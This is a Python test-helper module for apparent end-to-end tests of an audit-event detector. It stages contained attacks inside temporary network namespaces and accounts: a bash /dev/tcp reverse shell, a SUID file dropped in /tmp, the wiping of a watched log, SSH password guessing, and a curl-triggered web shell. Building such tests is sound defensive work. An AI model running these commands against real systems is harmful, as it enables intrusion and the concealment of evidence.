"""Attacks that really happen, and harm nobody.

Each is a context: it has happened when it is entered, what the attacker has left (a process, a connection) stays until
it is left, and then everything is as it was, also after a failure. They happen in a pair of network namespaces of their
own, by accounts that are made for them, with files of their own; under the loginuid `WORK_AUID`, so that an observer
can tell their records from what else goes on. How they are observed is no matter of this module.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import pwd
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Final

import attrs

from tests.e2e.daemons import listening
from tests.e2e.stream import PATIENCE, WORK_AUID, wait_for

NEEDED: Final = ("ip", "sshd", "ssh", "curl", "pkill", "perl", "openssl")
"""Of `tests.needs`, beside root."""
HOST: Final = "198.51.100.1"
"""The host that is attacked, in its network namespace (RFC 5737: an address of nobody)."""
FAR: Final = tuple(f"198.51.100.{number}" for number in range(2, 64))
"""Addresses that attackers have, at the other end of the wire."""
PORT: Final = 4_444
"""On which a shell is awaited."""
SSH_PORT: Final = 2_222
WEB_PORT: Final = 8_080
TRIES: Final = 8
"""Wrong passwords, which must be as many as the rule counts."""
PASSWORD: Final = "correct horse battery staple"
FREE_LOGS: Final = ("/var/log/secure", "/var/log/messages", "/var/log/syslog", "/var/log/auth.log")
"""Logs that conf/rules.d watches, of which a distribution has only some: one that is not there can be wiped."""

_AS_NOBODY_ELSE: Final = 'echo "$0" >/proc/self/loginuid && exec "$@"'
_numbers = itertools.count()


@attrs.frozen
class Traces:
    """What a test can hold findings and reactions against.

    time: of the wall clock, right before it happened. pid, started: of the process that did it and still runs, and its
    start time in ticks since boot (0: there is none).
    """

    time: float
    pid: int = 0
    started: int = 0
    address: str = ""
    account: str = ""
    path: Path | None = None


@attrs.frozen
class Account:
    """One that is there for a while."""

    name: str
    uid: int
    gid: int


@attrs.frozen
class Network:
    """Two network namespaces with a wire between them: near, with HOST, and far, with FAR."""

    near: str
    far: str


def start_time(pid: int) -> int:
    """Ticks since boot at which a process was started (proc(5)): its field 22, counted behind the last parenthesis."""
    return int(Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()[19])


def run(*words: str | Path) -> subprocess.CompletedProcess[str]:
    """A command that must succeed. Raises RuntimeError with what it said."""
    done = subprocess.run([str(each) for each in words], capture_output=True, text=True, timeout=PATIENCE)
    if done.returncode:
        raise RuntimeError(f"{' '.join(map(str, words))}: exit status {done.returncode}: {done.stdout}{done.stderr}")
    return done


# ---- what they happen in ----


@contextlib.contextmanager
def network() -> Iterator[Network]:
    """Both namespaces, up."""
    name = f"audisp-{os.getpid()}-{next(_numbers)}"
    made = Network(f"{name}-near", f"{name}-far")
    with contextlib.ExitStack() as stack:
        for each in (made.near, made.far):
            run("ip", "netns", "add", each)
            stack.callback(subprocess.run, ["ip", "netns", "delete", each], capture_output=True)
            run("ip", "-n", each, "link", "set", "lo", "up")
        run("ip", "-n", made.near, "link", "add", "wire", "type", "veth", "peer", "name", "wire", "netns", made.far)
        run("ip", "-n", made.near, "addr", "add", f"{HOST}/24", "dev", "wire")
        run("ip", "-n", made.near, "link", "set", "wire", "up")
        run("ip", "-n", made.far, "link", "set", "wire", "up")
        with tempfile.NamedTemporaryFile("w", suffix=".ip") as batch:
            batch.writelines(f"addr add {each}/24 dev wire\n" for each in FAR)
            batch.flush()
            run("ip", "-n", made.far, "-batch", batch.name)
        yield made


@contextlib.contextmanager
def account() -> Iterator[Account]:
    """A new account that may log in with PASSWORD, without a home."""
    name = f"audisp-{os.getpid() % 100_000}-{next(_numbers)}"
    hashed = run("openssl", "passwd", "-6", PASSWORD).stdout.strip()
    run("useradd", "--no-create-home", "--shell", "/bin/bash", "--password", hashed, name)
    try:
        entry = pwd.getpwnam(name)
        yield Account(name, entry.pw_uid, entry.pw_gid)
    finally:
        # What still runs as this account would become somebody else's, and keeps userdel from its work.
        subprocess.run(["pkill", "-KILL", "-u", name], capture_output=True)
        wait_for(lambda: subprocess.run(["pgrep", "-u", name], capture_output=True).returncode, f"{name} has left")
        run("userdel", name)


@contextlib.contextmanager
def folder_of(owner: Account) -> Iterator[Path]:
    """A folder in /tmp that an account can reach and write to."""
    path = Path(tempfile.mkdtemp(prefix="audisp-attack-", dir="/tmp"))
    try:
        os.chown(path, owner.uid, owner.gid)
        path.chmod(0o755)
        yield path
    finally:
        shutil.rmtree(path)


def within(namespace: str, words: Sequence[str | Path], owner: Account | None = None) -> list[str]:
    """A command as it runs in a network namespace, with the loginuid of all attacks, as an account; by the same pid."""
    as_whom = []
    if owner is not None:
        as_whom = ["setpriv", f"--reuid={owner.uid}", f"--regid={owner.gid}", "--clear-groups"]
    marked = ["sh", "-c", _AS_NOBODY_ELSE, str(WORK_AUID)]
    return [*marked, "ip", "netns", "exec", namespace, *as_whom, *map(str, words)]


@contextlib.contextmanager
def running(command: Sequence[str], **env: str) -> Iterator[subprocess.Popen[str]]:
    """A process in a group of its own, which is killed as a whole at the end."""
    process = subprocess.Popen(
        command,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        cwd="/",
        start_new_session=True,
        env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8", "HOME": "/nonexistent"} | env,
    )
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(process.pid, signal.SIGKILL)
        process.kill()
        process.communicate()


def told(process: subprocess.Popen[str], begins: str) -> str:
    """The rest of the next line that begins so. AssertionError if none comes any more."""
    assert process.stdout is not None
    said = ""
    for line in process.stdout:
        if line.startswith(begins):
            return line.removeprefix(begins).strip()
        said += line
    raise AssertionError(f"{process.args!r} ended without {begins!r}: {said}")


def _traces(when: float, pid: int, owner: Account, address: str, path: Path | None = None) -> Traces:
    """pid 0, and one that has ended by now: there is no process any more, because somebody was quick to react."""
    try:
        started = start_time(pid)
    except (FileNotFoundError, ProcessLookupError):
        pid = started = 0
    return Traces(when, pid, started, address, owner.name, path)


# ---- the attacks ----


@contextlib.contextmanager
def reverse_shell(where: Network, owner: Account, address: str = FAR[0]) -> Iterator[Traces]:
    """`bash -i` over /dev/tcp to somebody who listens elsewhere and has given it a command already."""
    script = Path(__file__).with_name("attacker.py")
    listener = within(where.far, [sys.executable, "-I", "-S", script, "listen", address, str(PORT)])
    with running(listener) as far:
        told(far, "ready")
        when = time.time()
        command = f"bash -i >& /dev/tcp/{address}/{PORT} 0>&1"
        with running(within(where.near, ["bash", "-c", command], owner)):
            said = told(far, "shell ")
            yield _traces(when, 0 if said == "gone" else int(said.removeprefix("pid=")), owner, address)


@contextlib.contextmanager
def suid_file(where: Network, owner: Account, address: str = "") -> Iterator[Traces]:
    """A program with the SUID bit appears in /tmp. It is /bin/true, of an account that is nobody."""
    with folder_of(owner) as folder:
        path = folder / "dropped"
        shutil.copy("/bin/true", path)
        os.chown(path, owner.uid, owner.gid)
        when = time.time()
        code = '$| = 1; chmod 04755, $ARGV[0] or die $!; print "pid=$$\\n"; sleep 600'
        with running(within(where.near, ["perl", "-e", code, path], owner)) as process:
            pid = int(told(process, "pid="))
            assert path.stat().st_mode & 0o7777 == 0o4755
            yield _traces(when, pid, owner, address, path)


@contextlib.contextmanager
def log_wipe(where: Network, owner: Account, address: str = "") -> Iterator[Traces]:
    """A log that the audit rules watch is emptied: one that this system does not have, so that nothing is lost."""
    path = next((Path(each) for each in FREE_LOGS if not os.path.lexists(each)), None)
    assert path is not None, f"this host has all of {', '.join(FREE_LOGS)}"
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o600)
    try:
        os.write(descriptor, b"Jan 1 00:00:00 host sshd[1]: what the attacker does not want to be read\n")
        os.fchown(descriptor, owner.uid, owner.gid)
        when = time.time()
        code = '$| = 1; open F, ">", $ARGV[0] or die $!; print "pid=$$\\n"; sleep 600'
        with running(within(where.near, ["perl", "-e", code, path], owner)) as process:
            pid = int(told(process, "pid="))
            assert os.fstat(descriptor).st_size == 0
            yield _traces(when, pid, owner, address, path)
    finally:
        os.close(descriptor)
        path.unlink()


@contextlib.contextmanager
def ssh_server(where: Network) -> Iterator[None]:
    """Debian's sshd with PAM, for passwords, on HOST."""
    with tempfile.TemporaryDirectory(prefix="audisp-sshd-") as text:
        folder = Path(text)
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", folder / "key")
        conf = {
            "Port": SSH_PORT,
            "ListenAddress": HOST,
            "HostKey": folder / "key",
            "PidFile": "none",
            "UsePAM": "yes",
            "PasswordAuthentication": "yes",
            "KbdInteractiveAuthentication": "no",
            "PubkeyAuthentication": "no",
            "PermitRootLogin": "no",
            "AllowUsers": "audisp-*",
            "MaxStartups": 100,
            "UseDNS": "no",
            "PrintMotd": "no",
        }
        (folder / "conf").write_text("".join(f"{key} {value}\n" for key, value in conf.items()))
        with contextlib.suppress(FileExistsError):
            os.mkdir("/run/sshd", 0o755)  # as its unit does; stays, like after a boot
        with running(within(where.near, ["/usr/sbin/sshd", "-D", "-f", folder / "conf"])) as server:

            def ready() -> bool:
                assert server.poll() is None, f"sshd ended: {server.communicate()}"
                return listening(SSH_PORT, server.pid)

            wait_for(ready, "sshd listens")
            yield


@contextlib.contextmanager
def brute_force(where: Network, owner: Account, address: str = FAR[0], *, guessed: bool = False) -> Iterator[Traces]:
    """Wrong passwords over ssh, as many at once, which PAM refuses; guessed: and the right one in the end."""
    with tempfile.TemporaryDirectory(prefix="audisp-guess-") as text, ssh_server(where):
        ask = Path(text) / "ask"
        ask.write_text('#!/bin/sh\nprintf "%s\\n" "$AUDISP_PASSWORD"\n')
        ask.chmod(0o700)
        options = {
            "BatchMode": "no",
            "StrictHostKeyChecking": "no",
            "UserKnownHostsFile": "/dev/null",
            "GlobalKnownHostsFile": "/dev/null",
            "PreferredAuthentications": "password",
            "NumberOfPasswordPrompts": "1",
            "LogLevel": "ERROR",
            "BindAddress": address,
        }
        words = ["ssh", "-F", "none", "-p", str(SSH_PORT)]
        words += [word for key, value in options.items() for word in ("-o", f"{key}={value}")]
        command = within(where.far, [*words, f"{owner.name}@{HOST}", "echo in"])

        def guess(password: str) -> contextlib.AbstractContextManager[subprocess.Popen[str]]:
            return running(
                command, SSH_ASKPASS=str(ask), SSH_ASKPASS_REQUIRE="force", DISPLAY="none", AUDISP_PASSWORD=password
            )

        when = time.time()
        with contextlib.ExitStack() as stack:
            for each in [stack.enter_context(guess(f"wrong {number}")) for number in range(TRIES)]:
                said, _ = each.communicate(timeout=PATIENCE)
                assert "Permission denied" in said, said
        if guessed:
            with guess(PASSWORD) as process:
                said, _ = process.communicate(timeout=PATIENCE)
                assert "in" in said.splitlines(), said
        yield Traces(when, address=address, account=owner.name)


@contextlib.contextmanager
def web_shell(where: Network, owner: Account, address: str = FAR[0]) -> Iterator[Traces]:
    """What is called nginx is asked for a page over the network, and starts a shell."""
    with folder_of(owner) as folder:
        server = folder / "nginx"
        shutil.copy(os.path.realpath("/usr/bin/python3"), server)
        script = folder / "web_server.py"
        shutil.copy(Path(__file__).with_name("web_server.py"), script)
        for path in (server, script):
            path.chmod(0o755)
        words = within(where.near, [server, "-S", script, HOST, str(WEB_PORT)], owner)
        with running(words, PYTHONHOME="/usr", PYTHONDONTWRITEBYTECODE="1") as process:
            told(process, "ready")
            when = time.time()
            asked = run(*within(where.far, ["curl", "-sS", "--interface", address, f"http://{HOST}:{WEB_PORT}/shell"]))
            pid = int(asked.stdout.removeprefix("pid="))
            yield _traces(when, pid, owner, address)


ALL: Final = {
    "reverse_shell": reverse_shell,
    "suid_file": suid_file,
    "log_wipe": log_wipe,
    "brute_force": brute_force,
    "web_shell": web_shell,
}
"""The attacks by name. Each takes a network, an account and the attacker's address."""
